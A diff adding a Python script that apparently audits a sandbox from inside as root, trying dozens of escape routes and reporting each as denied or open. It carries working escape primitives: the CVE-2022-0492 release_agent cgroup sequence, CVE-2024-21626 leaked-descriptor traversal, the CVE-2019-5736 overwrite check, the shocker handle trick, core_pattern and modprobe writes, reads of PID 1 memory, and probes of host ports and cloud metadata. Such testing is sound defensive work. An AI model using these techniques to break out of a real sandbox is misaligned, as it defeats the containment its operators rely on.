@@ -1,0 +1,321 @@
+"""Attempts to leave a sandbox, as its root. Prints one line for each: its name, and "denied: why" or "open: what".
+
+Usage: attempts.py HOST_ADDRESS NEIGHBOUR_ADDRESS MARKER; MARKER is a file that only a program on the host could write.
+"""
+import ctypes, errno, os, socket, stat, struct, subprocess, sys
+
+libc = ctypes.CDLL(None, use_errno=True)
+host, neighbour, marker = sys.argv[1:4]
+
+
+class Denied(Exception):
+    pass
+
+
+def syscall(number, *args):
+    """Raises OSError if the call fails."""
+    libc.syscall.restype = ctypes.c_long
+    got = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
+    if got < 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    return got
+
+
+def writes(path, data=b"x", flags=os.O_WRONLY):
+    def attempt():
+        fd = os.open(path, flags)
+        try:
+            os.write(fd, data)
+        finally:
+            os.close(fd)
+        return path + " was written"
+    return attempt
+
+
+def reads(path, size=64):
+    def attempt():
+        with open(path, "rb", buffering=0) as f:
+            got = f.read(size)
+        if not got:
+            raise Denied("it is empty")
+        return path + " was read"
+    return attempt
+
+
+def calls(number, *args):
+    def attempt():
+        return "it returned %d" % syscall(number, *args)
+    return attempt
+
+
+def opens_socket(*args):
+    def attempt():
+        socket.socket(*args).close()
+        return "the socket was opened"
+    return attempt
+
+
+def connects(address, *ports):
+    def attempt():
+        pending = []
+        for port in ports:
+            s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
+            s.setblocking(False)
+            code = s.connect_ex((address, port))
+            if code not in (0, errno.EINPROGRESS):
+                s.close()
+                continue
+            pending.append((port, s))
+        import select, time
+        end, found = time.time() + 0.3, []
+        while pending and time.time() < end:
+            _, ready, _ = select.select([], [s for _, s in pending], [], max(0, end - time.time()))
+            for port, s in list(pending):
+                if s in ready:
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                        found.append(port)
+                    s.close()
+                    pending.remove((port, s))
+        if found:
+            return "ports %s answered" % found
+        raise Denied("no port answered")
+    return attempt
+
+
+def makes_device(kind, major, minor):
+    """Makes a device node and reads it."""
+    def attempt():
+        path = "/tmp/node-%d-%d" % (major, minor)
+        try:
+            os.mknod(path, kind | 0o600, os.makedev(major, minor))
+            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
+            os.close(fd)
+        finally:
+            if os.path.lexists(path):
+                os.remove(path)
+        return "device %d:%d was opened" % (major, minor)
+    return attempt
+
+
+def host_devices():
+    """Opens the block devices that the kernel lists."""
+    found = []
+    for line in open("/proc/partitions").read().split("\n")[2:]:
+        if line.strip():
+            major, minor = map(int, line.split()[:2])
+            try:
+                found.append(makes_device(stat.S_IFBLK, major, minor)())
+            except OSError:
+                pass
+    if found:
+        return ", ".join(found)
+    raise Denied("none can be opened")
+
+
+def traces_agent():
+    libc.ptrace.restype = ctypes.c_long
+    if libc.ptrace(16, 1, 0, 0) < 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    return "PID 1 is traced"
+
+
+def reads_agent_memory():
+    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", buffering=0) as mem:
+        for line in maps:
+            low, _ = (int(x, 16) for x in line.split()[0].split("-"))
+            mem.seek(low)
+            if mem.read(16):
+                return "memory of PID 1 was read"
+    raise Denied("nothing is mapped")
+
+
+def reads_agent_memory_by_call():
+    buf = ctypes.create_string_buffer(16)
+    local, remote = struct.pack("QQ", ctypes.addressof(buf), 16), struct.pack("QQ", 0x400000, 16)
+    n = syscall(310, 1, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
+    return "%d bytes of PID 1 were read" % n
+
+
+def release_agent():
+    """CVE-2022-0492: a cgroup's release_agent is started by the host's kernel."""
+    script = "mkdir -p /tmp/cg && mount -t cgroup -o memory x /tmp/cg && mkdir -p /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release && " \
+             "echo '#!/bin/sh\ntouch %s' > /tmp/agent.sh && chmod +x /tmp/agent.sh && echo /tmp/agent.sh > /tmp/cg/release_agent && " \
+             "sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'" % marker
+    out = subprocess.run(["unshare", "-UrmC", "sh", "-c", script], capture_output=True, text=True)
+    if out.returncode != 0:
+        raise Denied(out.stderr.strip()[-80:])
+    return "release_agent was set"
+
+
+def leaked_directory():
+    """CVE-2024-21626: a descriptor of a host's directory that was left open."""
+    for pid in ("self", "1"):
+        base = "/proc/%s/fd" % pid
+        try:
+            names = os.listdir(base)
+        except OSError:
+            continue
+        for name in names:
+            for up in ("/../../../../../../etc/machine-id", "/../../../../../.." + marker):
+                try:
+                    if os.path.isdir("%s/%s" % (base, name)):
+                        with open("%s/%s%s" % (base, name, up)) as f:
+                            if not os.path.samefile("%s/%s" % (base, name), "/proc/self/fd"):
+                                return "%s/%s leads to %s" % (base, name, f.name)
+                except OSError:
+                    pass
+    raise Denied("no descriptor of a directory is open")
+
+
+def overwrites_agent():
+    """CVE-2019-5736: the program of PID 1, which other sandboxes run too."""
+    for path in ("/proc/1/exe", os.environ.get("AGENT", "/.barchan/agent")):
+        try:
+            fd = os.open(path, os.O_WRONLY)
+        except OSError as e:
+            last = e
+            continue
+        os.close(fd)
+        return path + " can be written"
+    raise last
+
+
+def host_sockets():
+    found = []
+    for root, _, names in os.walk("/"):
+        if root.startswith(("/proc", "/sys")):
+            continue
+        for name in names:
+            path = os.path.join(root, name)
+            try:
+                if stat.S_ISSOCK(os.lstat(path).st_mode):
+                    s = socket.socket(socket.AF_UNIX)
+                    s.connect(path)
+                    found.append(path)
+            except OSError:
+                pass
+    if found:
+        return ", ".join(found)
+    raise Denied("there is none")
+
+
+def host_mounts():
+    """Paths of the host that mountinfo tells."""
+    words = [w for line in open("/proc/self/mountinfo") for w in line.split() if "containerd" in w or "/var/lib/barchan" in w]
+    if words and "9p" in open("/proc/self/mountinfo").read():
+        return "mountinfo tells " + words[0][:80]
+    raise Denied("mountinfo tells no path of the host")
+
+
+def joins_namespaces():
+    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
+    return "setns returned %d" % syscall(308, fd, 0)
+
+
+def io_uring():
+    params = ctypes.create_string_buffer(256)
+    return "a ring has descriptor %d" % syscall(425, 4, params)
+
+
+def handles():
+    """The shocker exploit: an inode of the host by its number."""
+    handle = struct.pack("II8s", 8, 1, struct.pack("Q", 2))
+    fd = os.open("/", os.O_RDONLY)
+    return "inode 2 has descriptor %d" % syscall(304, fd, ctypes.c_char_p(handle), os.O_RDONLY)
+
+
+def mounts(kind):
+    def attempt():
+        os.makedirs("/tmp/mnt", exist_ok=True)
+        if libc.mount(b"none", b"/tmp/mnt", kind.encode(), 0, None) < 0:
+            code = ctypes.get_errno()
+            raise OSError(code, os.strerror(code))
+        libc.umount2(b"/tmp/mnt", 2)
+        return kind + " was mounted"
+    return attempt
+
+
+def arp():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
+    s.bind(("eth0", 0))
+    s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x06" + b"\0" * 28)
+    return "an ARP packet was sent"
+
+
+def clock():
+    class Timespec(ctypes.Structure):
+        _fields_ = [("sec", ctypes.c_long), ("nsec", ctypes.c_long)]
+    now = Timespec(1, 0)
+    return "the clock was set: %d" % syscall(227, 0, ctypes.byref(now))
+
+
+def makes_interface():
+    import fcntl
+    os.mknod("/tmp/tun", stat.S_IFCHR | 0o600, os.makedev(10, 200))
+    fd = os.open("/tmp/tun", os.O_RDWR)
+    fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH22x", b"escape0", 1))
+    return "an interface was made"
+
+
+HOST_PORTS = (22, 111, 2375, 2376, 2379, 2380, 6443, 7700, 7743, 7764, 10250, 49983)
+
+ATTEMPTS = {
+    "trace the agent": traces_agent,
+    "read the agent's memory": reads_agent_memory,
+    "read the agent's memory by process_vm_readv": reads_agent_memory_by_call,
+    "overwrite the agent (CVE-2019-5736)": overwrites_agent,
+    "release_agent of a cgroup (CVE-2022-0492)": release_agent,
+    "a leaked descriptor (CVE-2024-21626)": leaked_directory,
+    "open_by_handle_at (shocker)": handles,
+    "core_pattern": writes("/proc/sys/kernel/core_pattern", b"|/tmp/x"),
+    "modprobe path": writes("/proc/sys/kernel/modprobe", b"/tmp/x"),
+    "binfmt_misc": writes("/proc/sys/fs/binfmt_misc/register", b":x:M::x::/tmp/x:"),
+    "sysrq-trigger": writes("/proc/sysrq-trigger", b"h"),
+    "uevent_helper": writes("/sys/kernel/uevent_helper", b"/tmp/x"),
+    "cgroup limits": writes("/sys/fs/cgroup/memory/memory.limit_in_bytes", b"-1"),
+    "kernel memory (kcore)": reads("/proc/kcore"),
+    "kernel memory (/dev/mem)": makes_device(stat.S_IFCHR, 1, 1),
+    "kernel log": reads("/dev/kmsg"),
+    "keys of the host": reads("/proc/keys"),
+    "symbols of the kernel": lambda: reads("/proc/kallsyms")() if open("/proc/kallsyms").read(16).strip("0 \n")[:1] not in ("", "T", "A") else (_ for _ in ()).throw(Denied("addresses are zero")),
+    "block devices": host_devices,
+    "/dev/kvm": makes_device(stat.S_IFCHR, 10, 232),
+    "/dev/fuse": makes_device(stat.S_IFCHR, 10, 229),
+    "a network interface of its own": makes_interface,
+    "sockets of the host": host_sockets,
+    "paths of the host": host_mounts,
+    "setns": joins_namespaces,
+    "mount tmpfs": mounts("tmpfs"),
+    "mount cgroup": mounts("cgroup"),
+    "mount sysfs": mounts("sysfs"),
+    "pivot_root": calls(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")),
+    "add_key": calls(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -3),
+    "bpf": calls(321, 0, ctypes.create_string_buffer(128), 128),
+    "io_uring": io_uring,
+    "userfaultfd": calls(323, 0),
+    "perf_event_open": calls(298, ctypes.create_string_buffer(128), 0, -1, -1, 0),
+    "init_module": calls(175, ctypes.c_char_p(b"x" * 64), 64, ctypes.c_char_p(b"")),
+    "kexec_load": calls(246, 0, 0, 0, 0),
+    "iopl": calls(172, 3),
+    "set the clock": clock,
+    "reboot": calls(169, 0xfee1dead, 672274793, 0x89abcdef, 0),
+    "packet socket": opens_socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
+    "raw socket": opens_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
+    "ARP": arp,
+    "vsock to the hypervisor": opens_socket(40, socket.SOCK_STREAM),
+    "AF_ALG": opens_socket(38, socket.SOCK_SEQPACKET),
+    "ports of the host": connects(host, *HOST_PORTS),
+    "ports of a neighbour": connects(neighbour, 49983, 22, 80),
+    "metadata of a cloud": connects("169.254.169.254", 80),
+    "a cloud's wire server": connects("168.63.129.16", 80, 32526),
+    "IPv6 neighbours": connects("fe80::1", 22, 80),
+}
+
+for name, attempt in ATTEMPTS.items():
+    try:
+        outcome = "open: " + attempt()
+    except (OSError, Denied, AttributeError) as e:
+        outcome = "denied: " + (errno.errorcode.get(e.errno, "?") if isinstance(e, OSError) and e.errno else str(e) or type(e).__name__)
+    print(name + "\t" + outcome.replace("\n", " "))
